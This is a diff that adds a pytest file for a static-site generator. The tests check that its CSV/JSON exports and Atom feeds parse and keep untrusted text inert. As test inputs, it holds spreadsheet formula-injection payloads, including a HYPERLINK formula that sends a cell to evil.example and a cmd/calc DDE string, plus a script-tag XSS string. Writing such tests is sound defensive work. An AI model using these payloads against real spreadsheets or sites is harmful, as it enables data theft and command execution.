@@ -1,0 +1,94 @@
+"""Feeds and exports: Atom feeds that a feed parser reads, CSV and JSON that load and
+match the briefs, and untrusted text that stays text in every one of them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import feedparser
+import yaml
+from typer.testing import CliRunner
+
+from generator.cli import app
+from generator.exports import EXPORTED, columns, csv_cell
+
+from .hostile import make_hostile_project
+from .test_site import briefs_of
+
+
+def _csv(path) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+
+
+def test_exports_load_and_match_the_briefs(seed_site):
+    exports, briefs = seed_site / "site" / "exports", briefs_of(seed_site)
+    for section in EXPORTED:
+        expected = sorted((b.id, item.id) for b in briefs for item in getattr(b, section))
+        table, records = _csv(exports / f"{section}.csv"), json.loads((exports / f"{section}.json").read_text())
+        assert expected and sorted((r["brief_id"], r["id"]) for r in table) == expected
+        assert sorted((r["brief_id"], r["id"]) for r in records) == expected
+        assert list(table[0]) == columns(section) == list(records[0])
+    figures = {(r["brief_id"], r["id"]): r for r in json.loads((exports / "figures.json").read_text())}
+    for brief in briefs:
+        for figure in brief.figures:
+            assert figures[(brief.id, figure.id)]["value"] == figure.value
+
+
+def test_topic_exports_hold_only_that_topics_items(seed_site):
+    exports = seed_site / "site" / "exports"
+    everything = {(r["brief_id"], r["id"]) for r in _csv(exports / "claims.csv")}
+    topic_files = sorted((exports / "topics").glob("*/claims.csv"))
+    assert topic_files
+    for path in topic_files:
+        assert {(r["brief_id"], r["id"]) for r in _csv(path)} <= everything
+
+
+def test_feeds_parse_and_hold_their_briefs(seed_site):
+    feeds, briefs = seed_site / "site" / "feeds", briefs_of(seed_site)
+    digest = feedparser.parse((feeds / "digest.xml").read_bytes())
+    assert not digest.bozo, digest.bozo_exception
+    assert sorted(e.title for e in digest.entries) == sorted(" ".join(b.title.split()) for b in briefs)
+    for topic_feed in sorted((feeds / "topics").glob("*.xml")):
+        parsed = feedparser.parse(topic_feed.read_bytes())
+        on_topic = [b for b in briefs if topic_feed.stem in b.topics]
+        assert not parsed.bozo and len(parsed.entries) == len(on_topic), topic_feed.name
+    actor_feeds = sorted((feeds / "actors").glob("*.xml"))
+    assert actor_feeds and all(not feedparser.parse(p.read_bytes()).bozo for p in actor_feeds)
+    topic = next((seed_site / "site" / "topics").glob("*/index.html")).read_text(encoding="utf-8")
+    assert 'type="application/atom+xml"' in topic and "/exports/topics/" in topic
+
+
+def test_a_formula_in_any_cell_is_neutralised():
+    for formula in ("=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(formula).startswith("'")
+    assert csv_cell("Growth of 3%") == "Growth of 3%" and csv_cell(-2.5) == -2.5 and csv_cell(5e9) == 5000000000
+
+
+def test_hostile_text_stays_text_in_feeds_and_exports(tmp_path):
+    root = make_hostile_project(tmp_path)
+    brief_path = root / "content" / "briefs" / "hostile-0.yml"
+    brief = yaml.safe_load(brief_path.read_text(encoding="utf-8"))
+    brief["claims"][0]["text"] = '=HYPERLINK("http://evil.example/steal?"&A1,"click")'
+    brief["claims"][0]["verb"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    brief["summary"] = "Bell \x07 and form feed \x0c in the summary </summary><script>alert(1)</script>"
+    brief_path.write_text(yaml.safe_dump(brief, sort_keys=False, allow_unicode=True), encoding="utf-8")
+    result = CliRunner().invoke(app, ["build", "--strict", "--no-extract", "--project", str(root)])
+    assert result.exit_code == 0, result.output
+    site = root / "site"
+    claims = {(r["brief_id"], r["id"]): r for r in _csv(site / "exports" / "claims.csv")}
+    row = claims[("hostile-0", "c-one")]
+    assert row["text"].startswith("'=HYPERLINK") and row["verb"].startswith("'@SUM")
+    assert not any(value.startswith(("=", "+", "@")) for r in claims.values() for value in r.values())
+    for path in (site / "exports").rglob("*.json"):
+        text = path.read_text(encoding="utf-8")
+        assert "<" not in text and ">" not in text
+        json.loads(text)
+    for path in (site / "feeds").rglob("*.xml"):
+        parsed = feedparser.parse(path.read_bytes())
+        assert not parsed.bozo, (path.name, parsed.bozo_exception)
+        assert "<script" not in path.read_text(encoding="utf-8")
+    digest = feedparser.parse((site / "feeds" / "digest.xml").read_bytes())
+    summary = next(e.summary for e in digest.entries if "hostile-0" in e.link)
+    assert "</summary><script>alert(1)</script>" in summary  # the text, kept as text
